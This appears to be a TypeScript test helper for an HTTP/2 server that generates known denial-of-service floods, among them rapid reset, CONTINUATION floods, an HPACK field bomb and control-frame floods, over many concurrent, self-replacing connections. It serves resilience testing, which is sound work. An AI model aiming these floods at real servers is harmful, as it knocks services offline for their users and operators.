import { frameTypes, writeFrame } from '../frames.ts';
import { data, encodeFields, get, headers, RawClient, reset, settings, windowUpdate } from './raw-client.ts';

// Floods of HTTP/2, each as fast as a connection takes it. A connection that is closed is replaced, as an attacker does.

/** One round of a flood: the frames to send next, with a stream that has not been used on the connection. */
type Round = (stream: number) => Buffer;

const ping = writeFrame(frameTypes.ping, 0, 0, Buffer.alloc(8));
const priority = Buffer.from([0, 0, 0, 0, 15]);
const request = get('/');
const upload = encodeFields([
  [':method', 'POST'],
  [':scheme', 'http'],
  [':path', '/'],
  [':authority', 'localhost'],
]);

/** What there is to be flooded with. */
export const floods = {
  // B1
  'rapid reset': (stream) => Buffer.concat([headers(stream, request), reset(stream)]),
  // B12: a window of no bytes is a fault for which the server resets the stream.
  'made you reset': (stream) => Buffer.concat([headers(stream, upload, 0), windowUpdate(stream, 0)]),
  // B2
  continuation: (stream) =>
    stream === 1
      ? writeFrame(frameTypes.headers, 0, 1, request)
      : writeFrame(frameTypes.continuation, 0, 1, encodeFields([['x', 'y']])),
  // B3: an entry of 4,000 bytes, and then nothing but references to it.
  'field bomb': (stream) =>
    stream === 1
      ? headers(1, Buffer.concat([request, Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x61)]))
      : headers(stream, Buffer.concat([request, Buffer.alloc(16_000, 0xbe)])),
  // B4
  ping: () => ping,
  settings: () => settings(),
  priority: (stream) => writeFrame(frameTypes.priority, 0, stream, priority),
  'window update': () => windowUpdate(0, 1),
  'empty data': (stream) => (stream === 1 ? Buffer.concat([headers(1, upload, 0), data(1, '', 0)]) : data(1, '', 0)),
  'unknown frames': () => writeFrame(0x42, 0, 0),
} as const satisfies Readonly<Record<string, Round>>;

/** The name of a flood. */
export type FloodKind = keyof typeof floods;

/** What came of a flood. */
export interface FloodOutcome {
  /** Connections that were opened, all but the last few of which were closed by the server. */
  readonly connections: number;
  readonly rounds: number;
  /** How long the longest-lived connection was open, in milliseconds. */
  readonly longestMs: number;
}

/** Floods a port over some connections at once, for some time. */
export async function flood(kind: FloodKind, port: number, connections: number, ms: number): Promise<FloodOutcome> {
  const end = performance.now() + ms;
  const outcome = { connections: 0, rounds: 0, longestMs: 0 };
  const attacker = async (): Promise<void> => {
    while (performance.now() < end) {
      outcome.connections++;
      const { rounds, openMs } = await floodOnce(kind, port, end);
      outcome.rounds += rounds;
      outcome.longestMs = Math.max(outcome.longestMs, openMs);
    }
  };
  await Promise.all(Array.from({ length: connections }, attacker));
  return outcome;
}

const roundsAtOnce = 100;
const maxStream = 0x7fff_0000;

async function floodOnce(kind: FloodKind, port: number, end: number): Promise<{ rounds: number; openMs: number }> {
  const begin = performance.now();
  const round: Round = floods[kind];
  let rounds = 0;
  try {
    using client = await RawClient.open(port);
    for (let stream = 1; !client.isClosed && performance.now() < end && stream < maxStream; ) {
      const frames: Buffer[] = [];
      for (; frames.length < roundsAtOnce; stream += 2) frames.push(round(stream));
      rounds += frames.length;
      // What was received is of no interest, and there may be much of it.
      client.frames.length = 0;
      if (client.send(...frames)) await new Promise((resolve) => setImmediate(resolve));
      else await roomOrClosed(client);
    }
    await Promise.race([
      client.closed,
      new Promise((resolve) => setTimeout(resolve, Math.max(0, end - performance.now()))),
    ]);
  } catch {
    // Connections that are refused count as closed.
  }
  return { rounds, openMs: performance.now() - begin };
}

function roomOrClosed({ socket, closed }: RawClient): Promise<unknown> {
  const hasRoom = new Promise((resolve) => socket.once('drain', resolve));
  return Promise.race([hasRoom, closed]);
}
